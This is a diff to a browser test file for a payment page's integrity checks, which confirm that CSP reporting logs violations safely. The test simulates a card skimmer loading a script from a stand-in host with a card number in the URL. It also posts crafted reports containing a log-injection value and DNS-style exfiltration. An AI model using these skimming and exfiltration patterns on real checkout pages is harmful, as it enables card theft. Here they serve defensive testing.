@@ -1,7 +1,8 @@
 /**
  * The payment page's scripts and security headers, checked against the reviewed baseline in
  * docs/payment-page-baseline.json (the idea of PCI DSS 11.6.1: notice an unexpected change), and
- * Subresource Integrity shown to be enforced by Chromium. After a reviewed change to the pages,
+ * Subresource Integrity shown to be enforced by Chromium, and a policy violation shown to reach the
+ * shop's log as directive and origin only. After a reviewed change to the pages,
  * `UPDATE_PAYMENT_PAGE_BASELINE=1 pnpm vitest run --project demo:e2e payment-page-integrity`
  * rewrites the baseline; the diff is then part of the change and of docs/script-inventory.md.
  */
@@ -70,5 +71,38 @@ describe('payment page scripts and headers (PCI DSS 6.4.3, 11.6.1)', () => {
     await expect.poll(() => problems.join('\n')).toMatch(/integrity/i)
     expect(await page.evaluate(() => (globalThis as { skimmed?: boolean }).skimmed ?? false)).toBe(false)
     expect(await page.getAttribute('body', 'data-ready')).toBeNull() // the checkout never started
+  })
+
+  it('reports a violation to the shop, which logs the directive and the blocked origin only', async () => {
+    const { page, problems } = await stack.page()
+    await page.goto(stack.shop.url)
+    await page.waitForSelector('body[data-ready="true"]')
+    // What an injected skimmer would do: load its script and send the card away in a query string.
+    await page.evaluate(() => {
+      const script = document.createElement('script')
+      script.src = 'https://skimmer.example/collect.js?pan=5555444433331111'
+      document.head.append(script)
+    })
+    const reported = 'CSP violation reported: script-src-elem blocked https://skimmer.example'
+    await expect.poll(() => stack.shopLog.filter((line) => line.startsWith('CSP violation'))).toEqual([reported])
+    expect(problems.join('\n')).toMatch(/skimmer\.example\/collect\.js.* violates the following Content Security Policy directive/)
+
+    // The Reporting API's format (what a shop serving HTTPS with report-to receives), a script
+    // sample with card digits in it, and a body that is no report at all.
+    const post = (type: string, body: string) => fetch(`${stack.shop.url}/api/csp-report`, { method: 'POST', headers: { 'content-type': type }, body })
+    const reportingApi = [{ type: 'csp-violation', url: `${stack.shop.url}/?pan=5555444433331111`, body: { effectiveDirective: 'script-src-elem', blockedURL: 'inline', sample: 'fetch("/x?pan=5555444433331111")' } }]
+    expect((await post('application/reports+json', JSON.stringify(reportingApi))).status).toBe(204)
+    expect((await post('application/csp-report', '{"csp-report": {"effective-directive": "evil\\nline", "blocked-uri": "not a url"}}')).status).toBe(204)
+    const dnsExfiltration = { 'csp-report': { 'effective-directive': 'connect-src', 'blocked-uri': 'https://5555444433331111.skimmer.example/' } }
+    expect((await post('application/csp-report', JSON.stringify(dnsExfiltration))).status).toBe(204)
+    expect((await post('application/csp-report', 'not json')).status).toBe(204)
+    expect(stack.shopLog.filter((line) => line.startsWith('CSP'))).toEqual([
+      reported,
+      'CSP violation reported: script-src-elem blocked inline',
+      'CSP violation reported: unknown blocked unknown',
+      'CSP violation reported: connect-src blocked https://################.skimmer.example',
+      'CSP report unreadable (8 bytes)',
+    ])
+    expect(stack.shopLog.filter((line) => /5555|collect\.js|pan=/.test(line))).toEqual([])
   })
 })
